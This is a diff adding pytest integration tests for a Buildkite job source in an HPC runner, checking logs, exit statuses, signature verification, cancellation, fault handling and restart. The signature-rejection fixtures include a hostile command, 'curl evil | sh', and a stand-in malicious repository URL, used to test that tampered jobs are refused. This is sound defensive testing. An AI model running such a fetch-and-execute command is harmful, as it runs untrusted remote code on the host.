@@ -1,0 +1,441 @@
+"""The Buildkite source against the agent API emulator, with a stand-in agent (no Slurm).
+
+What a user of Buildkite would see: the job's log (byte-exact once the timestamps are taken
+out), one finish with the right exit status and signal reason, whatever the API does meanwhile.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import os
+import re
+import subprocess
+import time
+from collections.abc import AsyncIterator, Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+from fakes.buildkite_api import BuildkiteEmulator
+from fakes.buildkite_signer import StepSigner, signed_job
+
+from runner.config import BuildkiteConfig
+from runner.sources.buildkite import protocol
+from runner.sources.buildkite.source import BuildkiteSource
+from runner.store import JobState
+
+from .buildkite_host import FakeHost
+
+FAST = {name: policy.scaled(0.01) for name, policy in protocol.DEFAULT_POLICIES.items()}
+STAMP = re.compile(rb"\x1b_bk;t=\d+\x07")
+PLUGIN = {"hpc-runner#v1": {"image": "test", "resources": {"time": "5m"}}}
+
+
+def unstamped(log: bytes) -> bytes:
+    return STAMP.sub(b"", log)
+
+
+async def wait_until(check: Callable[[], Any], timeout: float = 20.0, what: str = "the condition") -> Any:
+    deadline = time.monotonic() + timeout
+    while True:
+        value = check()
+        if value:
+            return value
+        if time.monotonic() > deadline:
+            raise AssertionError(f"timed out waiting for {what}")
+        await asyncio.sleep(0.02)
+
+
+@pytest.fixture
+def repo(tmp_path: Path) -> Path:
+    """A git repository with one commit, as BUILDKITE_REPO."""
+    path = tmp_path / "repo"
+    path.mkdir()
+    env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.org",
+           "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.org"}
+    subprocess.run(["git", "init", "-q", str(path)], check=True)
+    (path / "README").write_text("hello\n")
+    subprocess.run(["git", "-C", str(path), "add", "README"], check=True)
+    subprocess.run(["git", "-C", str(path), "commit", "-qm", "first"], check=True, env=env)
+    return path
+
+
+@pytest.fixture
+def signer() -> StepSigner:
+    return StepSigner()
+
+
+@pytest.fixture
+async def bk() -> AsyncIterator[BuildkiteEmulator]:
+    async with BuildkiteEmulator(request_headers={"Buildkite-Shard": "7"}, heartbeat_interval=1) as emulator:
+        yield emulator
+
+
+class Running:
+    def __init__(self, source: BuildkiteSource, task: asyncio.Task[None], host: FakeHost) -> None:
+        self.source = source
+        self.task = task
+        self.host = host
+
+    async def stop(self) -> None:
+        self.host.draining.set()
+        await asyncio.wait_for(self.task, 30)
+
+
+@pytest.fixture
+async def make_source(tmp_path: Path, bk: BuildkiteEmulator, signer: StepSigner
+                      ) -> AsyncIterator[Callable[..., Running]]:
+    started: list[Running] = []
+    token = tmp_path / "token"
+    token.write_text(bk.registration_token + "\n")
+    token.chmod(0o600)
+    jwks = tmp_path / "jwks.json"
+    jwks.write_text(signer.public_jwks())
+
+    def start(host: FakeHost | None = None, *, workers: int = 1, signed: bool = True) -> Running:
+        host = host or FakeHost(tmp_path / "site")
+        config = BuildkiteConfig(token_file=token, verification_jwks_file=jwks if signed else None,
+                                 endpoint=bk.url, tags=("queue=hpc",), workers=workers,
+                                 allow_unsigned=not signed)
+        source = BuildkiteSource(config, host, policies=FAST, http_timeout_s=5)
+        running = Running(source, asyncio.create_task(source.serve()), host)
+        started.append(running)
+        return running
+
+    yield start
+    for running in started:
+        running.host.draining.set()
+        running.host.stopping.set()
+        if not running.task.done():
+            running.task.cancel()
+            with __import__("contextlib").suppress(BaseException):
+                await running.task
+
+
+def queue(bk: BuildkiteEmulator, job: dict[str, Any]) -> str:
+    return bk.queue_job(job, agent_query_rules=["queue=hpc"])
+
+
+async def finished(bk: BuildkiteEmulator, job_id: str, timeout: float = 30) -> dict[str, Any]:
+    await wait_until(lambda: bk.job_state(job_id) in ("finished", "canceled", "timed_out"), timeout,
+                     what=f"job {job_id} to finish")
+    finishes = bk.finishes(job_id)
+    assert len(finishes) == 1, finishes
+    return finishes[0]
+
+
+# -- a signed job runs -------------------------------------------------------------------------
+
+
+async def test_a_signed_step_runs_and_its_log_and_status_reach_buildkite(
+        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path) -> None:
+    running = make_source()
+    running.host.outputs["build"] = [b"line one\n", b"line two \xff not utf-8\n", b"no newline"]
+    job_id = queue(bk, signed_job(signer, "make test", repo=str(repo), plugins=[PLUGIN],
+                                  env={"BUILDKITE_STEP_KEY": "build"}))
+
+    body = await finished(bk, job_id)
+
+    assert (body["exit_status"], body.get("signal_reason"), body["chunks_failed_count"]) == ("0", None, 0)
+    log = unstamped(bk.log(job_id))
+    assert log.startswith(b"~~~ \xe2\x9c\x85 Job signature verified (key hpc-test, EdDSA)\n"), log
+    assert log.endswith(b"line one\nline two \xff not utf-8\nno newline"), log
+    assert b"checking out HEAD" in log
+    # Every line has its timestamp, and the agent sent the start before any chunk.
+    assert bk.jobs[job_id].start_body is not None
+    assert bk.header_violations() == []
+    expected = {"register": "registration", "connect": "session", "ping": "session", "accept": "session",
+                "heartbeat": "session", "disconnect": "session", "start": "job", "chunks": "job",
+                "job_state": "job", "finish": "job"}
+    used = {(r.endpoint, r.token_kind) for r in bk.recorded if r.endpoint}
+    assert {endpoint for endpoint, _ in used} >= {"register", "connect", "ping", "accept", "start", "chunks",
+                                                  "finish"}
+    assert all(expected[endpoint] == kind for endpoint, kind in used), used
+    # The workspace holds the checkout.
+    record = running.host.store.find_by_external_id("buildkite", job_id)
+    assert record is not None and record.state == JobState.succeeded
+    assert (running.host.root / "work" / record.id / "workspace" / "README").read_text() == "hello\n"
+    assert record.identity["signer"] == "hpc-test"
+    await running.stop()
+    agent = next(iter(bk.agents.values()))
+    assert agent.disconnected and agent.tags == {"queue": "hpc"}
+
+
+async def test_the_failed_commands_exit_status_is_reported(
+        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path) -> None:
+    running = make_source()
+    running.host.exit_status = 3
+    job_id = queue(bk, signed_job(signer, "false", repo=str(repo), plugins=[PLUGIN]))
+    assert (await finished(bk, job_id))["exit_status"] == "3"
+
+
+# -- signature rejections ----------------------------------------------------------------------
+
+
+def tampered_jobs(signer: StepSigner, repo: str) -> dict[str, dict[str, Any]]:
+    good = signed_job(signer, "make test", repo=repo, plugins=[PLUGIN], step_env={"MODE": "ci"})
+    jobs: dict[str, dict[str, Any]] = {}
+    job = signed_job(signer, "make test", repo=repo, plugins=[PLUGIN], step_env={"MODE": "ci"})
+    job["env"]["BUILDKITE_COMMAND"] = job["step"]["command"] = "curl evil | sh"
+    jobs["command"] = job
+    job = signed_job(signer, "make test", repo=repo, plugins=[PLUGIN], step_env={"MODE": "ci"})
+    job["env"]["MODE"] = "evil"
+    jobs["env"] = job
+    job = signed_job(signer, "make test", repo=repo, plugins=[PLUGIN], step_env={"MODE": "ci"})
+    bigger = {"hpc-runner#v1": {"image": "test", "resources": {"nodes": 64}}}
+    job["step"]["plugins"] = [bigger]
+    job["env"]["BUILDKITE_PLUGINS"] = '[{"github.com/buildkite-plugins/hpc-runner-buildkite-plugin#v1":' \
+                                      ' {"image": "test", "resources": {"nodes": 64}}}]'
+    jobs["plugins"] = job
+    job = signed_job(signer, "make test", repo=repo, plugins=[PLUGIN], step_env={"MODE": "ci"})
+    job["env"]["BUILDKITE_REPO"] = "https://example.invalid/evil.git"
+    jobs["repository"] = job
+    jobs["wrong key"] = signed_job(StepSigner(kid="hpc-test"), "make test", repo=repo, plugins=[PLUGIN])
+    job = signed_job(signer, "make test", repo=repo, plugins=[PLUGIN])
+    job["step"]["signature"]["algorithm"] = "ES256"
+    jobs["alg mismatch"] = job
+    jobs["missing"] = signed_job(None, "make test", repo=repo, plugins=[PLUGIN])
+    assert good["step"]["signature"] is not None
+    return jobs
+
+
+async def test_a_tampered_or_unsigned_job_is_finished_signature_rejected_and_never_run(
+        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path) -> None:
+    running = make_source(workers=2)
+    ids = {name: queue(bk, job) for name, job in tampered_jobs(signer, str(repo)).items()}
+
+    for name, job_id in ids.items():
+        body = await finished(bk, job_id)
+        assert (body["exit_status"], body["signal_reason"]) == ("-1", "signature_rejected"), name
+        log = unstamped(bk.log(job_id))
+        assert log.startswith("+++ ⛔ Job signature verification failed\nerror: ".encode()), (name, log)
+        assert bk.jobs[job_id].start_body is not None, name
+    assert running.host.ran == []
+    assert running.host.store.list_jobs() == []
+    assert b"no signature in job" in unstamped(bk.log(ids["missing"]))
+
+
+async def test_without_keys_and_allow_unsigned_jobs_run_without_a_signer(
+        bk: BuildkiteEmulator, make_source: Callable[..., Running], repo: Path) -> None:
+    running = make_source(signed=False)
+    job_id = queue(bk, signed_job(None, "make", repo=str(repo), plugins=[PLUGIN]))
+    assert (await finished(bk, job_id))["exit_status"] == "0"
+    record = running.host.store.find_by_external_id("buildkite", job_id)
+    assert record is not None and "signer" not in record.identity
+
+
+# -- refusals ----------------------------------------------------------------------------------
+
+
+async def test_a_denied_job_shows_the_policys_reasons_and_finishes_agent_refused(
+        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path) -> None:
+    running = make_source()
+    job = signed_job(signer, "make", repo=str(repo), plugins=[PLUGIN],
+                     env={"BUILDKITE_PIPELINE_SLUG": "other"})
+    job_id = queue(bk, job)
+    body = await finished(bk, job_id)
+    assert (body["exit_status"], body["signal_reason"]) == ("-1", "agent_refused")
+    log = unstamped(bk.log(job_id))
+    assert log.startswith("~~~ ✅ Job signature verified".encode()), log
+    assert b"hpc-runner: denied by policy:\n  - no grant" in log, log
+    assert running.host.ran == []
+
+
+async def test_a_block_without_image_uses_the_policys_only_image_and_a_bad_block_is_refused(
+        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path) -> None:
+    running = make_source()
+    plain = queue(bk, signed_job(signer, "make", repo=str(repo)))
+    bad = queue(bk, signed_job(signer, "make", repo=str(repo),
+                               plugins=[{"org/hpc-runner#v2": {"image": "test", "nodez": 2}}]))
+    assert (await finished(bk, plain))["exit_status"] == "0"
+    body = await finished(bk, bad)
+    assert (body["exit_status"], body["signal_reason"]) == ("-1", "agent_refused")
+    assert b"nodez" in unstamped(bk.log(bad)) and b"unknown key" in unstamped(bk.log(bad))
+    assert len(running.host.ran) == 1
+
+
+async def test_a_failed_checkout_shows_gits_message(
+        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner,
+        tmp_path: Path) -> None:
+    running = make_source()
+    job_id = queue(bk, signed_job(signer, "make", repo=str(tmp_path / "no-such-repo"), plugins=[PLUGIN]))
+    body = await finished(bk, job_id)
+    assert (body["exit_status"], body["signal_reason"]) == ("-1", "process_run_error")
+    log = unstamped(bk.log(job_id))
+    assert b"does not exist" in log and b"git clone of" in log, log
+    assert running.host.ran == []
+
+
+# -- cancellation ------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("how", ["cancel", "timeout", "token"])
+async def test_cancel_from_buildkite_cancels_the_job(
+        how: str, bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner,
+        repo: Path) -> None:
+    running = make_source()
+    running.host.hold["long"] = asyncio.Event()
+    job_id = queue(bk, signed_job(signer, "sleep 100", repo=str(repo), plugins=[PLUGIN],
+                                  env={"BUILDKITE_STEP_KEY": "long"}))
+    await wait_until(lambda: running.host.ran, what="the job to run")
+    if how == "cancel":
+        bk.cancel_job(job_id)
+    elif how == "timeout":
+        bk.time_out_job(job_id)
+    else:
+        bk.fail("job_state", 401, times=10)
+    if how == "token":
+        await wait_until(lambda: running.host.store.list_jobs(states=[JobState.cancelled]), what="cancel")
+        bk.clear_faults()
+        body = await finished(bk, job_id)
+    else:
+        body = await finished(bk, job_id)
+    assert (body["exit_status"], body["signal"], body["signal_reason"]) == ("-1", "SIGTERM", "cancel")
+    assert b"hpc-runner: job cancelled; sent SIGTERM\n" in unstamped(bk.log(job_id))
+
+
+# -- the agent session -------------------------------------------------------------------------
+
+
+async def test_pause_takes_no_job_and_disconnect_ends_the_session(
+        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path) -> None:
+    running = make_source()
+    await wait_until(lambda: bk.agents, what="registration")
+    bk.set_action("pause")
+    job_id = queue(bk, signed_job(signer, "make", repo=str(repo), plugins=[PLUGIN]))
+    agent = next(iter(bk.agents.values()))
+    pings = agent.pings
+    await wait_until(lambda: agent.pings >= pings + 2, what="two pings while paused")
+    assert bk.job_state(job_id) == "scheduled"
+    bk.set_action("idle")
+    await finished(bk, job_id)
+    bk.set_action("disconnect")
+    await asyncio.wait_for(running.task, 20)
+    assert agent.disconnected
+
+
+async def test_headers_from_register_and_ping_are_echoed_and_heartbeats_go_on_during_a_job(
+        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path) -> None:
+    bk.ping_request_headers = {"Buildkite-Shard": "9", "X-Other": "dropped"}
+    running = make_source()
+    running.host.hold["long"] = hold = asyncio.Event()
+    job_id = queue(bk, signed_job(signer, "make", repo=str(repo), plugins=[PLUGIN],
+                                  env={"BUILDKITE_STEP_KEY": "long"}))
+    await wait_until(lambda: running.host.ran, what="the job to run")
+    agent = next(iter(bk.agents.values()))
+    beats = len(agent.heartbeats)
+    await wait_until(lambda: len(agent.heartbeats) >= beats + 2, timeout=10, what="heartbeats during the job")
+    hold.set()
+    await finished(bk, job_id)
+    assert bk.header_violations() == []
+    assert any(r.headers.get("Buildkite-Shard") == "9" for r in bk.requests("finish"))
+
+
+async def test_workers_register_as_separate_agents_and_run_jobs_at_once(
+        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path) -> None:
+    running = make_source(workers=3)
+    gate = asyncio.Event()
+    for name in ("a", "b", "c"):
+        running.host.hold[name] = gate
+    ids = [queue(bk, signed_job(signer, "make", repo=str(repo), plugins=[PLUGIN],
+                                env={"BUILDKITE_STEP_KEY": name})) for name in ("a", "b", "c")]
+    await wait_until(lambda: len(running.host.ran) == 3, timeout=30, what="three jobs at once")
+    gate.set()
+    for job_id in ids:
+        assert (await finished(bk, job_id))["exit_status"] == "0"
+    assert len({bk.jobs[j].agent_id for j in ids}) == 3
+
+
+# -- faults: finish exactly once, no chunk lost ------------------------------------------------
+
+
+@pytest.mark.parametrize("fault", ["status500", "status429", "non_json", "drop", "drop_processed", "delay"])
+async def test_whole_job_under_faults_finishes_once_with_the_whole_log(
+        fault: str, bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner,
+        repo: Path) -> None:
+    for endpoint in ("start", "chunks", "job_state", "finish", "ping", "heartbeat"):
+        if fault == "status500":
+            bk.fail(endpoint, 500, times=2)
+        elif fault == "status429":
+            bk.fail(endpoint, 429, times=2, retry_after=0)
+        elif fault == "non_json":
+            bk.non_json(endpoint, times=2)
+        elif fault == "drop":
+            bk.drop(endpoint, times=2)
+        elif fault == "drop_processed":
+            bk.drop(endpoint, times=1, processed=endpoint in ("finish", "chunks"))
+        else:
+            bk.delay(endpoint, 6, times=1)
+    running = make_source()
+    lines = [f"line {i}\n".encode() * 50 for i in range(40)]
+    running.host.outputs["build"] = lines
+    job_id = queue(bk, signed_job(signer, "make", repo=str(repo), plugins=[PLUGIN],
+                                  env={"BUILDKITE_STEP_KEY": "build"}))
+    await wait_until(lambda: bk.job_state(job_id) == "finished", timeout=60, what="finish")
+    await running.stop()
+    bodies = bk.finishes(job_id)
+    assert bodies[0]["exit_status"] == "0"
+    # A finish the server recorded but whose answer was lost is sent once more and answered 422.
+    assert len(bodies) == (2 if fault in ("drop_processed", "delay") else 1), bodies
+    assert unstamped(bk.log(job_id)).endswith(b"".join(lines))
+    assert bk.jobs[job_id].chunk_conflicts == []
+    assert bodies[0]["chunks_failed_count"] == 0
+
+
+async def test_a_chunk_refused_with_4xx_is_given_up_and_counted(
+        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path) -> None:
+    running = make_source()
+    running.host.hold["build"] = hold = asyncio.Event()
+    job_id = queue(bk, signed_job(signer, "make", repo=str(repo), plugins=[PLUGIN],
+                                  env={"BUILDKITE_STEP_KEY": "build"}))
+    await wait_until(lambda: bk.chunks(job_id) if job_id in bk.jobs else None, what="a first chunk")
+    bk.fail("chunks", 400, message="Missing chunk")
+    running.host.note(running.host.ran[0], "one more line\n")
+    await wait_until(lambda: any(r.status == 400 for r in bk.requests("chunks")), what="the 400")
+    hold.set()
+    body = await finished(bk, job_id)
+    assert body["chunks_failed_count"] == 1
+    assert len([r for r in bk.requests("chunks") if r.status == 400]) == 1
+
+
+# -- restart -----------------------------------------------------------------------------------
+
+
+async def test_a_restarted_source_carries_on_the_log_and_finishes_once(
+        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path,
+        tmp_path: Path) -> None:
+    host = FakeHost(tmp_path / "site")
+    host.hold["build"] = asyncio.Event()
+    host.outputs["build"] = [f"before {i}\n".encode() * 20 for i in range(20)]
+    first = make_source(host)
+    job_id = queue(bk, signed_job(signer, "make", repo=str(repo), plugins=[PLUGIN],
+                                  env={"BUILDKITE_STEP_KEY": "build"}))
+    await wait_until(lambda: bk.jobs[job_id].chunks_by_offset, what="a first chunk")
+    # The next chunk arrives but its answer does not come back before the agent dies: it is staged,
+    # so the restarted agent sends exactly the same bytes again.
+    bk.delay("chunks", 30, processed=True)
+    await wait_until(lambda: host.ran, what="the job to run")
+    host.note(host.ran[0], "the last line before the agent dies\n")
+    await wait_until(lambda: any(r.fault == "delay" for r in bk.requests("chunks")), what="the delayed chunk")
+    # The agent dies: its tasks stop wherever they are, nothing is flushed or finished.
+    first.task.cancel()
+    await asyncio.gather(first.task, return_exceptions=True)
+    host.store.close()
+    record_id = host.ran[0]
+    with (host.log_path(record_id)).open("ab") as handle:
+        handle.write(b"written while the agent was down\n")
+
+    second_host = FakeHost(tmp_path / "site")
+    second_host.outputs["build"] = host.outputs["build"]
+    second = make_source(second_host)
+    body = await finished(bk, job_id)
+    await second.stop()
+    assert body["exit_status"] == "0"
+    log = unstamped(bk.log(job_id))
+    expected = (b"".join(host.outputs["build"]) + b"the last line before the agent dies\n"
+                + b"written while the agent was down\n")
+    assert log.endswith(expected), log[-300:]
+    assert log.count(b"before 0\n" * 20) == 1
+    assert bk.jobs[job_id].chunk_conflicts == []
+    assert len(bk.finishes(job_id)) == 1
+    assert bk.jobs[job_id].duplicate_chunks >= 1
